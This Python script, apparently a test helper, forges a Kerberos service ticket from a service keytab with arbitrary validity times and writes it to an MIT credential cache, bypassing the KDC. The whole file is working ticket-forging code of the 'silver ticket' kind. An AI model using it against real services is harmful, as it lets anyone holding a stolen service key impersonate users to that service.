"""Makes a ticket as the KDC would, with any times: who has a service's key can. Run as a program, since it starts Java.

forge_ticket.py JARS KEYTAB USER END TICKETS     END: seconds from now; TICKETS: file for the ticket
"""

import secrets
import struct
import sys
import time
from pathlib import Path

import jpype

from secure.keytabs import AES256, KEY_BYTES, read_keytab
from secure.principals import REALM

_DAY = 86400


def main() -> None:
    jars, keytab, user, end, target = sys.argv[1:]
    (key,) = read_keytab(Path(keytab))
    session = secrets.token_bytes(KEY_BYTES)
    now = int(time.time())
    jpype.startJVM(classpath=[f"{jars}/*"])
    ticket = _ticket(key, user, session, now - _DAY, now + int(end))
    # The client believes what it has noted beside the ticket; the service looks into it.
    Path(target).write_bytes(_cache(user, key.principal, session, now, ticket))


def _ticket(key, user, session, begin, end):
    kerb = jpype.JPackage("org").apache.kerby.kerberos.kerb
    base, kinds = kerb.type.base, kerb.type.ticket
    part = kinds.EncTicketPart()
    part.setKey(base.EncryptionKey(AES256, jpype.JArray(jpype.JByte)(session)))
    part.setCname(base.PrincipalName(user))
    part.setCrealm(REALM)
    part.setFlags(kinds.TicketFlags())
    part.setTransited(base.TransitedEncoding())
    for name, seconds in (("AuthTime", begin), ("StartTime", begin), ("EndTime", end)):
        getattr(part, f"set{name}")(kerb.type.KerberosTime(seconds * 1000))
    secret = base.EncryptionKey(AES256, jpype.JArray(jpype.JByte)(key.secret), key.version)
    sealed = kerb.common.EncryptionUtil.seal(part, secret, base.KeyUsage.KDC_REP_TICKET)
    ticket = kinds.Ticket()
    ticket.setSname(base.PrincipalName(key.principal))
    ticket.setRealm(REALM)
    ticket.setEncryptedEncPart(sealed)
    return bytes(ticket.encode())


def _cache(user, service, session, now, ticket):
    """A file of tickets, format 4 of MIT Kerberos."""
    times = struct.pack(">4I", now, now, now + _DAY, 0)
    content = b"\x05\x04\x00\x00" + _principal(user)
    content += _principal(user) + _principal(service) + struct.pack(">H", AES256) + _counted(session) + times
    # Not for a second ticket, no flags, no addresses, no authorization data.
    return content + struct.pack(">B3I", 0, 0, 0, 0) + _counted(ticket) + _counted(b"")


def _principal(name):
    parts = name.split("/")
    return struct.pack(">2I", 1, len(parts)) + b"".join(_counted(part.encode()) for part in (REALM, *parts))


def _counted(content):
    return struct.pack(">I", len(content)) + content


if __name__ == "__main__":
    main()
